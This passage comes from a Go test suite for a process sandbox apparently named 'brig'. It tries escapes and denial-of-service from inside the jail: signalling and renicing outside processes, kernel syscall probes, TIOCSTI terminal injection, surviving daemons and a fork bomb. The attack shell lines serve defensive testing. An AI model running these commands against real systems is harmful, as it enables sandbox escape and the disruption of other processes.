				if !strings.Contains(output(res), "ALIVE") {
					escaped(t, "the command did not outlive signalling its init: %s", output(res))
				}
				if res.ExitCode != 7 || res.TimedOut || res.Canceled {
					escaped(t, "the call's outcome is not the command's own (exit %d, want 7; timed out %v, canceled %v): %s", res.ExitCode, res.TimedOut, res.Canceled, output(res))
				}
			}},
		{family: "supervisor", name: "kill -TERM a victim", passes: procPasses, probe: true, serial: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				before := v.sigs.Load()
				// Sent again each second until counted: one send that
				// went nowhere (a CI run once waited here for its whole
				// deadline, the victim alive and counting) must not hold
				// the suite's serial cases until then.
				var sent time.Time
				if !waitEvent(t, func() bool {
					if v.sigs.Load() > before {
						return true
					}
					if time.Since(sent) > time.Second {
						e.outside("kill", "-TERM", strconv.Itoa(v.pid))
						sent = time.Now()
					}
					return false
				}) {
					controlFail(t, "the victim did not count a SIGTERM sent outside the jail")
				}
			},
			attack: func(t *testing.T, e *env) {
				v := getVictim(t)
				before := v.sigs.Load()
				e.sh(`kill -TERM $ESC_VICTIM; kill -USR1 $ESC_VICTIM`)
				if !holdsFor(300*time.Millisecond, func() bool { return v.sigs.Load() == before }) {
					escaped(t, "the victim received %d signal(s) from the jail", v.sigs.Load()-before)
				}
			}},
		{family: "supervisor", name: "prlimit the supervisor", passes: procPasses, serial: true,
			control: func(t *testing.T, e *env) {
				orig := msgqueueSoft()
				defer restoreMsgqueue(orig)
				e.outside("prlimit", "--pid", strconv.Itoa(os.Getpid()), "--msgqueue=2222:")
				if msgqueueSoft() != 2222 {
					controlFail(t, "prlimit of the supervisor outside the jail did not change its RLIMIT_MSGQUEUE")
				}
			},
			attack: func(t *testing.T, e *env) {
				orig := msgqueueSoft()
				defer restoreMsgqueue(orig)
				e.sh(`prlimit --pid $ESC_TESTPID --msgqueue=1111:; python3 -c 'import os,resource; resource.prlimit(int(os.environ["ESC_TESTPID"]), resource.RLIMIT_MSGQUEUE, (1111, resource.RLIM_INFINITY))'`)
				if got := msgqueueSoft(); got != orig {
					escaped(t, "the jail changed the supervisor's RLIMIT_MSGQUEUE from %d to %d (prlimit(2) on a process outside the call; RLIMIT_CPU or RLIMIT_NOFILE would kill or cripple it)", orig, got)
				}
			}},
		{family: "supervisor", name: "renice a victim", passes: procPasses, probe: true, serial: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				before := niceOf(v.pid)
				e.outside("python3", "-c", fmt.Sprintf(`import os; os.setpriority(os.PRIO_PROCESS, %d, %d)`, v.pid, before+1))
				if niceOf(v.pid) != before+1 {
					controlFail(t, "setpriority of the victim outside the jail did not change its nice value (%d)", niceOf(v.pid))
				}
			},
			attack: func(t *testing.T, e *env) {
				v := getVictim(t)
				before := niceOf(v.pid)
				if before >= 19 {
					t.Skip("the victim's nice value is already 19")
				}
				e.sh(fmt.Sprintf(`python3 -c 'import os; os.setpriority(os.PRIO_PROCESS, int(os.environ["ESC_VICTIM"]), %d)'; renice -n 1 -p $ESC_VICTIM`, before+1))
				if after := niceOf(v.pid); after != before {
					escaped(t, "the jail changed the nice value of a process outside the call from %d to %d (setpriority(2))", before, after)
				}
			}},
	}
}

func restoreMsgqueue(v uint64) {
	var r unix.Rlimit
	_ = unix.Getrlimit(unix.RLIMIT_MSGQUEUE, &r)
	r.Cur = min(v, r.Max)
	_ = unix.Setrlimit(unix.RLIMIT_MSGQUEUE, &r)
}

// signalCase: the supervisor (this test process) counts SIGTERM/SIGUSR1.
// The control sends one from outside the jail; the attack must not move the
// counter (and this process must still be running, trivially).
func signalCase(name, script, unprivOnly string, alsoVictim bool) escCase {
	return escCase{family: "supervisor", name: name, passes: procPasses, serial: true, onlyUnpriv: unprivOnly, probe: alsoVictim,
		control: func(t *testing.T, e *env) {
			before := sigCount.Load()
			e.outside("kill", "-TERM", strconv.Itoa(os.Getpid()))
			if !waitEvent(t, func() bool { return sigCount.Load() > before }) {
				controlFail(t, "the supervisor did not count a SIGTERM sent from outside the jail")
			}
		},
		attack: func(t *testing.T, e *env) {
			before := sigCount.Load()
			var vBefore int64
			if alsoVictim {
				vBefore = getVictim(t).sigs.Load()
			}
			e.sh(script)
			if !holdsFor(300*time.Millisecond, func() bool { return sigCount.Load() == before }) {
				escaped(t, "the supervisor received %d signal(s) from the jail", sigCount.Load()-before)
			}
			if alsoVictim {
				if n := getVictim(t).sigs.Load() - vBefore; n != 0 {
					escaped(t, "the victim received %d signal(s) from the jail", n)
				}
			}
		},
	}
}

// ---------------------------------------------------------------------------
// kernel surface

// foreignABIAbsent says why the i386 or x32 probe cannot run outside the
// jail on this kernel (then there is no foreign ABI to escape through), or
// "" when it can. The probe says NOIA32 when int 0x80 faulted (a kernel
// without IA32 emulation, or booted with ia32_emulation=0); an x32
// syscall fails with ENOSYS without CONFIG_X86_X32_ABI.
func foreignABIAbsent(sub, stderr string) string {
	switch {
	case sub == "int80" && strings.Contains(stderr, "NOIA32"):
		return "this kernel has no IA32 emulation (int 0x80 faults outside the jail too), so there is no i386 syscall to escape with; the filter's kill of a foreign architecture is covered by jail/filter/filter_test.go"
	case sub == "x32" && strings.Contains(stderr, "Function not implemented"):
		return "this kernel has no x32 ABI (CONFIG_X86_X32_ABI off): an x32 syscall does nothing anywhere, so there is nothing to escape with; the filter's x32 kill is covered by jail/filter/filter_test.go"
	}
	return ""
}

// unprivilegedBPFDisabled is the bpf case's reason to be root-only: with
// kernel.unprivileged_bpf_disabled set, no unprivileged process can call
// bpf(2), in or out of the jail. Where it is 0 the case runs as uid 65534
// too.
func unprivilegedBPFDisabled() string {
	b, err := os.ReadFile("/proc/sys/kernel/unprivileged_bpf_disabled")
	if v := strings.TrimSpace(string(b)); err == nil && v != "0" {
		return "kernel.unprivileged_bpf_disabled=" + v + " forbids bpf(2) to every unprivileged process, so the attack cannot exist for this user"
	}
	return ""
}

func kernelCases() []escCase {
	// probeCase: the probe prints tag+canary only when the syscall worked.
	probeCase := func(name, sub, tag string, extra func(e *env) []string, onlyRoot string) escCase {
		args := func(e *env) []string {
			a := []string{probeBin, sub, e.canary}
			if extra != nil {
				a = append(a, extra(e)...)
			}
			return a
		}
		return escCase{family: "kernel", name: name, passes: kernPasses, probe: true, onlyRoot: onlyRoot,
			control: func(t *testing.T, e *env) {
				a := args(e)
				if sub == "mount" {
					a = a[:4] // never the "direct" mount outside the jail
				}
				out, errOut := e.outside(a...)
				if why := foreignABIAbsent(sub, errOut); why != "" {
					notApplicable(t, "%s", why)
				}
				if !strings.Contains(out, tag+e.canary) {
					// Once more: outside the jail this is the machine's
					// doing (an io_uring probe once hung for 14 s on a
					// loaded machine and printed nothing), not brig's;
					// both transcripts are kept.
					t.Logf("the probe %q did not work outside the jail; trying it once more", sub)
					out, _ = e.outside(a...)
				}
				if !strings.Contains(out, tag+e.canary) {
					controlFail(t, "the probe %q did not work outside the jail (twice)", sub)
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.argv(args(e))
				e.wantNotIn(res, tag+e.canary, sub+" from inside the jail")
			},
		}
	}
	mountDir := func(e *env) []string { return []string{e.mkdir("ws/src/mnt"), "direct"} }
	chrootDir := func(e *env) []string {
		e.mkfile("ws/src/newroot/brig-chroot-canary", "CHROOTED-"+e.canary+"\n", 0o644)
		return nil
	}
	return []escCase{
		probeCase("keyctl", "keyctl", "KEY:", nil, ""),
		probeCase("bpf", "bpf", "BPF:", nil, unprivilegedBPFDisabled()),
		probeCase("perf_event_open", "perf", "PERF:", nil, ""),
		probeCase("io_uring", "iouring", "IOURING:", nil, ""),
		probeCase("mount", "mount", "brigmnt-", mountDir, ""),
		probeCase("unshare user namespace", "unshare", "UNSHARE:", nil, ""),
		probeCase("clone with CLONE_NEWUSER", "clonens", "CLONENS:", nil, ""),
		{family: "kernel", name: "unshare -U (util-linux)", passes: kernPasses,
			control: func(t *testing.T, e *env) {
				out, _ := e.outside("unshare", "-U", "-r", "sh", "-c", "grep CapEff /proc/self/status")
				if !strings.Contains(out, "CapEff:\t000001ffffffffff") {
					controlFail(t, "unshare -U -r outside the jail did not give a full capability set")
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`unshare -U -r sh -c 'grep CapEff /proc/self/status'; unshare -U -r -m sh -c 'mount -t tmpfs none /tmp && echo MOUNT-IN-USERNS'`)
				e.wantNotIn(res, "CapEff:\t000001ffffffffff", "capabilities in a new user namespace")
				e.wantNotIn(res, "MOUNT-IN-USERNS", "a mount in a new user namespace")
			}},
		{family: "kernel", name: "chroot", passes: kernPasses, probe: true,
			control: func(t *testing.T, e *env) {
				chrootDir(e)
				out, _ := e.outside(probeBin, "chroot", e.path("ws/src/newroot"))
				if !strings.Contains(out, "CHROOT:CHROOTED-"+e.canary) {
					controlFail(t, "chroot outside the jail did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				chrootDir(e)
				res := e.argv([]string{probeBin, "chroot", e.path("ws/src/newroot")})
				e.wantNotIn(res, "CHROOT:CHROOTED-"+e.canary, "chroot from inside the jail")
			}},
		{family: "kernel", name: "mknod a device node", passes: kernPasses | fsPasses,
			onlyRoot: "mknod(2) of a device needs CAP_MKNOD, which no unprivileged process has, so the control cannot run",
			control: func(t *testing.T, e *env) {
				p := e.path("ctl-null")
				e.outside("mknod", p, "c", "1", "3")
				if fi, err := os.Lstat(p); err != nil || fi.Mode()&os.ModeCharDevice == 0 {
					controlFail(t, "mknod outside the jail did not create a character device (%v)", err)
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`mknod src/null c 1 3; mknod src/mem c 1 1; python3 -c 'import os,stat; os.mknod("src/null2", stat.S_IFCHR|0o666, os.makedev(1, 3))'`)
				for _, p := range []string{"src/null", "src/mem", "src/null2"} {
					if fi, err := os.Lstat(filepath.Join(e.ws, p)); err == nil && fi.Mode()&(os.ModeDevice|os.ModeCharDevice) != 0 {
						escaped(t, "the device node %s (%v) exists after the call", p, fi.Mode())
					}
				}
			}},
		probeCase("int 0x80 (i386)", "int80", "INT80:", nil, ""),
		probeCase("x32 syscall", "x32", "X32:", nil, ""),
		probeCase("personality READ_IMPLIES_EXEC", "personality", "RIE:", nil, ""),
	}
}

// ---------------------------------------------------------------------------
// terminal injection

func terminalCases() []escCase {
	sti := func(name string, high bool) escCase {
		args := func(p *pty, token string) []string {
			a := []string{probeBin, "tiocsti", p.path, token}
			if high {
				a = append(a, "high")
			}
			return a
		}
		return escCase{family: "terminal", name: name, passes: kernPasses, probe: true,
			control: func(t *testing.T, e *env) {
				p := openPTY(t)
				token := "INJ" + randHex(5)
				e.outside(args(p, token)...)
				if !waitEvent(t, func() bool { return p.has(token) }) {
					controlFail(t, "TIOCSTI outside the jail (probe in its own session, pty as controlling terminal) injected nothing")
				}
			},
			attack: func(t *testing.T, e *env) {
				p := openPTY(t)
				token := "INJ" + randHex(5)
				e.argv(args(p, token), withWrite(p.path))
				if !holdsFor(300*time.Millisecond, func() bool { return !p.has(token) }) {
					escaped(t, "TIOCSTI injected %q into the terminal (the master read it back)", token)
				}
			},
		}
	}
	return []escCase{sti("TIOCSTI", false), sti("TIOCSTI with high request bits", true)}
}

// ---------------------------------------------------------------------------
// survivors

// pySurvivor writes src/started-N once it runs (argv carries the marker),
// then sleeps. It ends by itself after two minutes: a control's survivor
// that a killed test run could not clean up does not stay for good.
func pySurvivor(marker, n string) string {
	return `python3 -c 'import sys,time; open(sys.argv[1],"w").write("x"); time.sleep(120)' src/started-` + n + ` ` + marker
}

// waitStarted waits for the survivor to have started; the call's timeout
// (or the control's caller) bounds the wait, however slow the machine.
const waitStarted = `while [ ! -e src/started-1 ]; do sleep 0.05; done; `

func survivorCases() []escCase {
	allPasses := inLandlock | inSeccomp | inNoNS | inLandlockBare
	// control: outside the jail the script leaves a process behind.
	control := func(script func(marker string) string) func(*testing.T, *env) {
		return func(t *testing.T, e *env) {
			marker := "brigsurvivor" + randHex(6)
			t.Cleanup(func() { killMarked(marker) })
			// The script's own argv carries the marker too: wait for
			// the survivor's file, then for a process besides the script.
			started := func() bool { return exists(filepath.Join(e.ws, "src/started-1")) }
			e.outsideUntil(started, "sh", "-c", script(marker))
			if !started() || !waitEvent(t, func() bool { return len(markerPIDs(marker)) > 0 }) {
				controlFail(t, "outside the jail the script left no process behind, so it tests nothing")
			}
		}
	}
	surv := func(name string, script func(marker string) string, lim func(*jail.Limits), wantTimeout bool) escCase {
		return escCase{family: "survivors", name: name, passes: allPasses,
			control: control(script),
			attack: func(t *testing.T, e *env) {
				marker := "brigsurvivor" + randHex(6)
				t.Cleanup(func() { killMarked(marker) })
				var opts []opt
				if lim != nil {
					opts = append(opts, withLimits(lim))
				}
				res := e.sh(script(marker), opts...)
				// A call whose timeout is the point may end before a slow
				// machine started the survivor: scale the timeout and retry
				// until it has (the test's deadline bounds the retries).
				for scale := time.Duration(2); wantTimeout && !exists(filepath.Join(e.ws, "src/started-1")) && scale <= 64; scale *= 2 {
					t.Logf("the survivor had not started when the call timed out; again with %d times the timeout", scale)
					res = e.sh(script(marker), withLimits(func(l *jail.Limits) { lim(l); l.Timeout *= scale }))
				}
				if !exists(filepath.Join(e.ws, "src/started-1")) {
					t.Fatalf("the survivor never started inside the jail, so the case proves nothing:\n%s", output(res))
				}
				if wantTimeout && !res.TimedOut {
					t.Errorf("the call should have timed out")
				}
				if pids := markerPIDs(marker); len(pids) > 0 {
					escaped(t, "processes %v with the marker argv are alive after the call returned", pids)
				}
			},
		}
	}
	setsidStay := func(m string) string {
		return `setsid ` + pySurvivor(m, "1") + ` </dev/null >/dev/null 2>&1 & ` + waitStarted +
			`exec python3 -c 'import time; time.sleep(300)' ` + m
	}
	return []escCase{
		surv("setsid", func(m string) string {
			return `setsid ` + pySurvivor(m, "1") + ` </dev/null >/dev/null 2>&1 & ` + waitStarted
		}, nil, false),
		{family: "survivors", name: "init stopped before it could end the call", passes: allPasses,
			control: control(setsidStay),
			attack: func(t *testing.T, e *env) {
				// Init ends a call's processes; without a PID namespace
				// nothing else does. An init that cannot run when the call
				// is cancelled (starved by the call's own fork bomb on a
				// loaded machine; here stopped) is killed by the
				// supervisor after its grace period, and the call's
				// processes must die with it all the same.
				marker := "brigsurvivor" + randHex(6)
				t.Cleanup(func() { killMarked(marker) })
				ctx, cancel := context.WithCancel(context.Background())
				defer cancel()
				type outcome struct {
					res jail.Result
					err error
				}
				done := make(chan outcome, 1)
				go func() {
					res, err := e.call([]string{"/bin/sh", "-c", setsidStay(marker)}, withContext(ctx))
					done <- outcome{res, err}
				}()
				var initPID int
				if !waitEvent(t, func() bool {
					select {
					case o := <-done:
						e.must(o.res, o.err) // a jail this kernel cannot enforce: not applicable
						t.Fatalf("the call ended before it was cancelled:\n%s", output(o.res))
					default:
					}
					if !exists(filepath.Join(e.ws, "src/started-1")) {
						return false
					}
					for _, pid := range markerPIDs(marker) {
						if initPID = childAbove(pid, os.Getpid()); initPID > 0 {
							return true
						}
					}
					return false
				}) {
					t.Fatal("the survivor never started inside the jail, so the case proves nothing")
				}
				if err := unix.Kill(initPID, unix.SIGSTOP); err != nil {
					t.Fatalf("stop the call's init (pid %d): %v", initPID, err)
				}
				cancel()
				o := <-done
				e.must(o.res, o.err)
				if !o.res.Canceled {
					t.Errorf("the call should have been cancelled: %s", output(o.res))
				}
				if pids := markerPIDs(marker); len(pids) > 0 {
					escaped(t, "processes %v with the marker argv are alive after the supervisor killed the call's stopped init", pids)
				}
			}},
		surv("double fork", func(m string) string {
			return `( ( setsid ` + pySurvivor(m, "1") + ` </dev/null >/dev/null 2>&1 & ) & ); ` + waitStarted
		}, nil, false),
		surv("nohup", func(m string) string {
			return `nohup ` + pySurvivor(m, "1") + ` >/dev/null 2>&1 & ` + waitStarted
		}, nil, false),
		surv("signals ignored until the timeout", func(m string) string {
			return `trap '' TERM HUP INT; setsid ` + pySurvivor(m, "1") + ` </dev/null >/dev/null 2>&1 & ` + waitStarted +
				`exec python3 -c 'import signal,time; [signal.signal(s, signal.SIG_IGN) for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT)]; time.sleep(60)' ` + m
		}, func(l *jail.Limits) { l.Timeout = 1500 * time.Millisecond }, true),
		{family: "survivors", name: "heartbeat daemon", passes: allPasses,
			control: func(t *testing.T, e *env) {
				marker := "brigsurvivor" + randHex(6)
				t.Cleanup(func() { killMarked(marker) })
				hb := filepath.Join(e.ws, "src/heartbeat")
				e.outside("sh", "-c", daemonScript(marker))
				size := fileSize(hb)
				if !waitEvent(t, func() bool { return fileSize(hb) > size && size > 0 }) {
					controlFail(t, "outside the jail the daemon's heartbeat did not keep growing")
				}
			},
			attack: func(t *testing.T, e *env) {
				marker := "brigsurvivor" + randHex(6)
				t.Cleanup(func() { killMarked(marker) })
				hb := filepath.Join(e.ws, "src/heartbeat")
				res := e.sh(daemonScript(marker))
				size := fileSize(hb)
				if size < 3 {
					t.Fatalf("the daemon never beat inside the jail (size %d), so the case proves nothing:\n%s", size, output(res))
				}
				if pids := markerPIDs(marker); len(pids) > 0 {
					escaped(t, "daemon processes %v are alive after the call returned", pids)
				}
				if !holdsFor(600*time.Millisecond, func() bool { return fileSize(hb) == size }) {
					escaped(t, "the heartbeat file keeps growing after the call returned (%d -> %d bytes)", size, fileSize(hb))
				}
			}},
	}
}

// daemonScript starts a classic double-fork daemon that appends to
// src/heartbeat every 100 ms, and returns once it has beaten 3 times
// (however long that takes: the call's timeout is the bound).
func daemonScript(marker string) string {
	return `python3 -c '
import os,sys,time
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
for fd in (0,1,2): os.close(fd)
end = time.time() + 120
while time.time() < end:
    with open("src/heartbeat","a") as f: f.write("x")
    time.sleep(0.1)
' ` + marker + `; while [ $(wc -c < src/heartbeat 2>/dev/null || echo 0) -lt 3 ]; do sleep 0.05; done`
}

// ---------------------------------------------------------------------------
// exhaustion

func exhaustionCases() []escCase {
	const memLimit = 256 << 20
	return []escCase{
		{family: "exhaustion", name: "fork bomb", passes: limitPasses, probe: true,
			control: func(t *testing.T, e *env) {
				b := runBomb(t, e, 120, 0)
				if b.created < 120 {
					controlFail(t, "without a process limit the bomb created only %d of 120 processes (peak %d seen)", b.created, b.peak)
				}
			},
			attack: func(t *testing.T, e *env) {
				const limit = 64
				b := runBomb(t, e, 400, limit)
				for try := 0; b.capped && try < 2; try++ {
					// Where the count is per uid, the suite's other passes
					// took more slots during the call than the bomb's cap
					// left room for: the bomb ended at its cap before it
					// met the limit. Again, with room for what was seen.
					t.Logf("the bomb stopped at its own cap (%d) before the limit (%d other tasks of the uid seen): again, larger", b.created, b.shared)
					b = runBomb(t, e, limit+b.shared+200, limit)
				}
				// Where the count is per uid, the bound is the limit plus
				// the slots the uid's other tasks gave back during the call:
				// the most of them this case saw, or what brig saw as it
				// planned the call (the RLIMIT_NPROC the bomb ran under),
				// which a sample every 25 ms can miss; but never a budget
				// beyond what the suite's other passes of this uid could
				// have run then.
				bound := limit + b.shared
				t.Logf("the bomb created %d processes (%d seen alive at once), %d forks failed; %d other tasks of the uid seen, RLIMIT_NPROC read %d", b.created, b.peak, b.failed, b.shared, b.nproc)
				if extra := b.nproc - limit; b.nproc > 0 && extra > b.shared {
					if extra > b.shared+otherPassesTasks {
						escaped(t, "Limits.Processes=%d: the bomb ran under RLIMIT_NPROC %d, %d on top of the limit, where the uid ran at most %d other tasks in this case's samples (as %s)", limit, b.nproc, extra, b.shared, who())
					}
					t.Logf("brig budgeted %d other tasks of the uid as it planned the call; this case's samples saw at most %d (another pass's start between them)", extra, b.shared)
					bound = b.nproc
				}
				if b.created > bound || b.peak > bound {
					escaped(t, "Limits.Processes=%d did not bound the call (as %s; %d other tasks of the uid at the start, RLIMIT_NPROC %d): the bomb created %d processes, %d seen alive at once in /proc; the call's pids cgroup said %s", limit, who(), b.shared, b.nproc, b.created, b.peak, bombCgroup(t))
				}
				switch {
				case b.failed > 0:
				case b.stopped:
					t.Logf("brig stopped the call at its process limit (%d seen alive at most)", b.peak)
				case errors.Is(b.err, syscall.EAGAIN):
					// Without a user namespace RLIMIT_NPROC counts every
					// process of this uid on the machine: the limit was
					// met before the bomb could even start.
					t.Logf("the process limit was already met when the bomb started: %v", b.err)
				default:
					t.Errorf("the bomb created %d processes and never saw a fork fail: it did not meet the limit, so the case proves nothing (jail error: %v)", b.created, b.err)
				}
			}},
		{family: "exhaustion", name: "stdout flood", passes: limitPasses,
			control: func(t *testing.T, e *env) {
				res := e.sh(`head -c 1000 /dev/zero | tr '\0' y`, withLimits(func(l *jail.Limits) { l.OutputBytes = 64 << 10 }))
				if len(res.Stdout) != 1000 || res.StdoutTruncated {
					controlFail(t, "a small output was not kept whole (%d bytes, truncated %v)", len(res.Stdout), res.StdoutTruncated)
				}
			},
			attack: func(t *testing.T, e *env) { flood(t, e, false) }},
		{family: "exhaustion", name: "stderr flood", passes: limitPasses,
			control: func(t *testing.T, e *env) {
				res := e.sh(`head -c 1000 /dev/zero | tr '\0' y >&2`, withLimits(func(l *jail.Limits) { l.OutputBytes = 64 << 10 }))
				if len(res.Stderr) != 1000 || res.StderrTruncated {
					controlFail(t, "a small stderr output was not kept whole (%d bytes)", len(res.Stderr))
				}
			},
			attack: func(t *testing.T, e *env) { flood(t, e, true) }},
		{family: "exhaustion", name: "memory", passes: limitPasses, probe: true,
			control: func(t *testing.T, e *env) {
				res := e.argv([]string{probeBin, "alloc", strconv.Itoa(2 * memLimit)}, withLimits(func(l *jail.Limits) { l.Timeout = memoryBackstop; l.Memory = 1 << 30 }))
				if got := allocTouched(res); got < 2*memLimit {
					controlFail(t, "with a 1 GiB limit the probe touched only %d bytes of %d", got, 2*memLimit)
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.argv([]string{probeBin, "alloc", strconv.Itoa(2 * memLimit)}, withLimits(func(l *jail.Limits) { l.Timeout = memoryBackstop; l.Memory = memLimit }))
				if got := allocTouched(res); got >= 2*memLimit || got > memLimit {
					escaped(t, "with Memory=%d the probe allocated and touched %d bytes", memLimit, got)
				}
			}},
		{family: "exhaustion", name: "file size", passes: limitPasses,
			control: func(t *testing.T, e *env) {
				e.sh(`dd if=/dev/zero of=src/big bs=64k count=160 2>&1`, withLimits(func(l *jail.Limits) { l.FileSize = 64 << 20 }))
				if got := fileSize(filepath.Join(e.ws, "src/big")); got != 10<<20 {
					controlFail(t, "with a 64 MiB limit the 10 MiB file is %d bytes", got)
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`dd if=/dev/zero of=src/big bs=64k count=160 2>&1; python3 -c 'f=open("src/big2","wb"); [f.write(b"\0"*65536) for i in range(160)]' 2>&1; truncate -s 10M src/big3`, withLimits(func(l *jail.Limits) { l.FileSize = 1 << 20 }))
				for _, p := range []string{"src/big", "src/big2", "src/big3"} {
					if got := fileSize(filepath.Join(e.ws, p)); got > 1<<20 {
						escaped(t, "with FileSize=1 MiB, %s is %d bytes", p, got)
					}
				}
			}},
	}
}

// bomb is what a fork bomb run reported.
type bomb struct {
	created, failed int   // children forked, forks that failed (the bound met)
	peak            int   // most of its processes seen alive at once in /proc
	err             error // the jail's error, if the call failed
	// stopped: brig stopped the call at its process limit (before the
	// bomb could report).
	stopped bool
	// shared is the most tasks of the uid, the bomb's own left out, seen
	// from before the call until it ended, where the kernel's count is
	// per uid (no user namespace, not root): brig's budget is the uid's
	// count when it starts the call plus the limit, and the suite's
	// other passes run as the same uid beside this one (their bombs
	// too), so the count at the bomb's start alone is no bound.
	shared int
	// nproc is the RLIMIT_NPROC a bomb process ran under (read from
	// /proc/PID/limits while the bomb ran; 0 when none was read): where
	// the count is per uid, the limit plus the uid's tasks at the moment
	// brig planned the call, which a sample of this case's can miss when
	// another pass starts a batch of jail children just then.
	nproc int
	// capped: the bomb stopped at its own cap (bombCap) without a failed
	// fork.
	capped bool
}

// uidTasks counts the tasks (threads included, as RLIMIT_NPROC does) whose
// real uid is uid, as the kernel counts them: by real uid, so processes
// that are not dumpable (whose /proc directory root owns), such as this
// test process once its supervisor started, count too.
func uidTasks(uid int) int {
	ents, _ := os.ReadDir("/proc")
	want := strconv.Itoa(uid)
	n := 0
	for _, d := range ents {
		if _, err := strconv.Atoi(d.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile("/proc/" + d.Name() + "/status")
		if err != nil {
			continue
		}
		var real string
		threads := 1
		for _, line := range strings.Split(string(b), "\n") {
			if v, ok := strings.CutPrefix(line, "Uid:"); ok && len(strings.Fields(v)) > 0 {
				real = strings.Fields(v)[0]
			} else if v, ok := strings.CutPrefix(line, "Threads:"); ok {
				threads, _ = strconv.Atoi(strings.TrimSpace(v))
			}
		}
		if real == want {
			n += max(threads, 1)
		}
	}
	return n
}

// runBomb runs the capped fork bomb in the jail with RLIMIT_NPROC=limit
// (0: none set), polling /proc for its processes. The bomb reports once
// every one of its processes has stopped forking and then exits, so the
// call ends on that event, not on a timeout. It checks that no bomb
// process survives the call.
func runBomb(t *testing.T, e *env, bombCap, limit int) bomb {
	marker := "brigbomb" + randHex(6)
	t.Cleanup(func() { killMarked(marker) })
	var b bomb
	perUID := unprivPass && !e.pass.namespaces()
	if perUID {
		// One bomb of this uid at a time across the suite's processes
		// (the passes without user namespaces and the capped-ABI runs
		// all run as the same uid): brig counts the uid's tasks as the
		// call starts, and another pass's bomb ending during this one
		// would leave it room beyond the bound this case can see.
		defer uidLock(t, "bombs")()
		// The kernel's RLIMIT_NPROC counts every task of this uid: brig
		// gives the call its budget on top of what the uid runs now, and
		// a task of the uid that ends during the call frees a slot.
		b.shared = uidTasks(os.Getuid())
		if limit > 0 {
			// Another pass of the suite runs as this uid beside this one
			// (a capped run's bomb, say): a bomb no larger than that
			// budget could never meet it, and would prove nothing.
			bombCap = max(bombCap, limit+b.shared+100)
		}
	}
	var mu sync.Mutex
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			case <-time.After(25 * time.Millisecond):
			}
			pids := markerPIDs(marker)
			others := 0
			if perUID {
				others = uidTasks(os.Getuid()) - len(pids)
			}
			// Any bomb process will do (all run under the same limit), but
			// not every process carrying the marker answers (one exiting,
			// or not yet under the limit, reads as none; a CI run read
			// none from the first one in every sample): the first that
			// does.
			nproc := 0
			for _, pid := range pids {
				if !perUID || nproc > 0 {
					break
				}
				nproc = maxProcesses(pid)
			}
			mu.Lock()
			b.peak = max(b.peak, len(pids))
			b.shared = max(b.shared, others)
			b.nproc = max(b.nproc, nproc)
			mu.Unlock()
			if len(pids) > 0 {
				noteCgroup(t, pids[0])
			}
		}
	}()
	res, err := e.call([]string{probeBin, "bomb", strconv.Itoa(bombCap), marker, "exit"}, withLimits(func(l *jail.Limits) {
		l.Processes = uint64(limit)
	}))
	close(stop)
	<-done
	b.err = err
	if why := unenforceable(e.pass, err); why != "" {
		notApplicable(t, "%s", why)
	}
	if err != nil {
		// Not judged by itself (it is what a crashed init looks like);
		// what matters is the bound and that nothing survives.
		t.Logf("the call ended with a jail error under the fork bomb: %v", err)
	}
	if pids := markerPIDs(marker); len(pids) > 0 {
		escaped(t, "%d bomb processes survive the call (jail error: %v)", len(pids), err)
	}
	reported := false
	for _, l := range strings.Split(string(res.Stdout), "\n") {
		if strings.HasPrefix(l, "BOMB ") {
			var capped, nproc int
			_, serr := fmt.Sscanf(l, "BOMB created=%d failed_forks=%d cap=%d nproc=%d", &b.created, &b.failed, &capped, &nproc)
			reported = serr == nil
			if perUID {
				// What the bomb read itself, when no sample caught one of
				// its processes in /proc (a loaded CI run saw none).
				mu.Lock()
				b.nproc = max(b.nproc, nproc)
				mu.Unlock()
			}
		}
	}
	b.stopped = res.Limit == jail.LimitProcesses
	b.capped = reported && b.failed == 0 && b.created >= bombCap
	if !reported && err == nil && !b.stopped {
		t.Fatalf("the bomb did not report what it did (exit %d, timed out %v, limit %q):\n%s", res.ExitCode, res.TimedOut, res.Limit, output(res))
	}
	mu.Lock()
	defer mu.Unlock()
	return b
}

// otherPassesTasks bounds the tasks of this uid the suite's other passes
// can start beside a case: up to four test processes of the uid at once
// (the unprivileged passes, with and without user namespaces, of the run
// and of a capped run), each running two calls at once (its parallel
// subtests) and keeping jail children waiting, a dozen threads each.
const otherPassesTasks = 512

// maxProcesses is the soft RLIMIT_NPROC of process pid ("Max processes"
// in /proc/PID/limits), or 0 when it cannot be read or is unlimited.
func maxProcesses(pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
	if err != nil {
		return 0
	}
	for _, l := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(l, "Max processes"); ok {
			f := strings.Fields(rest)
			if len(f) > 0 {
				n, _ := strconv.Atoi(f[0]) // "unlimited" reads as 0
				return n
			}
		}
	}
	return 0
}

// uidLock takes an exclusive lock named name, shared by every process of
// this uid that runs the suite (a file under /tmp, where the unprivileged
// passes keep TMPDIR), and returns its release. It waits as long as the
// holder takes.
func uidLock(t *testing.T, name string) func() {
	t.Helper()
	path := filepath.Join("/tmp", fmt.Sprintf("brig-escape-%s-%d.lock", name, os.Getuid()))
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, 0o600)
	if err != nil {
		t.Fatalf("the %s lock: %v", name, err)
	}
	for {
		err = unix.Flock(int(f.Fd()), unix.LOCK_EX)
		if err != unix.EINTR {
			break
		}
	}
	if err != nil {
		f.Close()
		t.Fatalf("the %s lock: %v", name, err)
	}
	return func() { f.Close() } // closing releases the lock
}

var bombCgroups sync.Map // test name -> "pids.max=N (cgroup path)"

// noteCgroup records the pids cgroup limit of a bomb process (evidence for
// the report: which bound the supervisor set).
func noteCgroup(t *testing.T, pid int) {
	if _, ok := bombCgroups.Load(t.Name()); ok {
		return
	}
